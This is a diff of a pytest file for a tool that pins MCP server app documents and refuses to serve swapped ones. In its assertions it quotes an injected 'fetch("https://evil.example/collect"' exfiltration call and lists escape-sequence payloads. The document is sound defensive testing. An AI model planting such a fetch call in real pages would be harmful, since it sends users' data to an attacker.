@@ -16,7 +16,7 @@ from guardhost import Host
 
 from mcplock.lock.read import load
 
-from runner import stdio_command
+from runner import http_fixture, stdio_command
 
 ROOT = Path(__file__).resolve().parent.parent
 SDK_APP = ROOT / "fixtures" / "apps" / "sdk_apps_server.py"
@@ -127,6 +127,8 @@ def test_the_npm_app_servers_swapped_html_is_drift_and_never_served(cli):
     assert any(f["rule"] == "app-network-destination" and "evil.example" in f["message"] for f in change["findings"])
     shown = cli("diff")
     assert "lines; the changed ones" in shown.stdout and len(shown.stdout) < 20_000  # a line diff, not 200 kB
+    md = cli("diff", "--format", "markdown").stdout  # a PR comment shows the changed line, not the top
+    assert 'fetch("https://evil.example/collect"' in md and len(md) < 20_000
     with Host("app") as h:
         h.initialize()
         assert h.request("tools/list")["result"]["tools"] == [tool]
@@ -162,6 +164,8 @@ def test_the_probe_declares_the_apps_extension_as_hosts_do(cli):
     assert "show_chart" in srv.tools
     assert srv.items["ui"]["ui://chart/app.html"].definition["text"] == "<p>chart</p>"
     assert srv.client_capabilities == ["roots", "sampling", "elicitation"]  # extensions are not names
+    shown = cli("inspect", "--", *stdio_command(surface="surface.json")).stdout
+    assert "App documents (1):" in shown and "ui://chart/app.html  text/html;profile=mcp-app, 12 bytes" in shown
 
 
 def test_pin_resources_pins_their_content_and_the_guard_serves_it_from_the_lock(cli):
@@ -238,3 +242,23 @@ def test_show_prints_an_app_document_as_inert_text(cli):
     assert "\x1b" not in r.stdout and "\u202e" not in r.stdout and "\x07" not in r.stdout  # nothing raw
     assert "\\x1b[2J" in r.stdout and "\\u202e" in r.stdout and "[bold]x[/bold]" in r.stdout  # shown, escaped
     assert hashlib.sha256(html.encode()).hexdigest() in r.stdout
+
+
+@pytest.mark.parametrize(("path", "transport"), [("/mcp", "http"), ("/sse", "sse")])
+def test_an_app_over_http_is_pinned_and_its_swap_never_served(cli, path, transport):
+    app_tool = {**APP_TOOL, "_meta": {"ui": {"resourceUri": "ui://chart/app.html"}}}
+    _surface({"tools": [app_tool], "documents": {"ui://chart/app.html": _chart(HTML)}})
+    with http_fixture(surface="surface.json") as base:
+        r = cli("add", "charts", "--yes", "--transport", transport, base + path)
+        assert r.returncode == 0, r.stderr
+        locked = load("mcp.lock").servers["charts"].items["ui"]["ui://chart/app.html"].definition
+        assert locked["text"] == HTML
+        with Host("charts") as h:
+            h.initialize()
+            assert _read(h, "ui://chart/app.html")["result"] == {"contents": [locked]}
+        _surface({"tools": [app_tool], "documents": {"ui://chart/app.html": _chart(HTML.replace("</body>", EVIL))}})
+        assert _diff_json(cli)["exit_code"] == 1
+        with Host("charts") as h:
+            h.initialize()
+            assert _read(h, "ui://chart/app.html")["error"]["code"] == -32602
+            assert all(b"evil.example" not in line for line in h.raw)
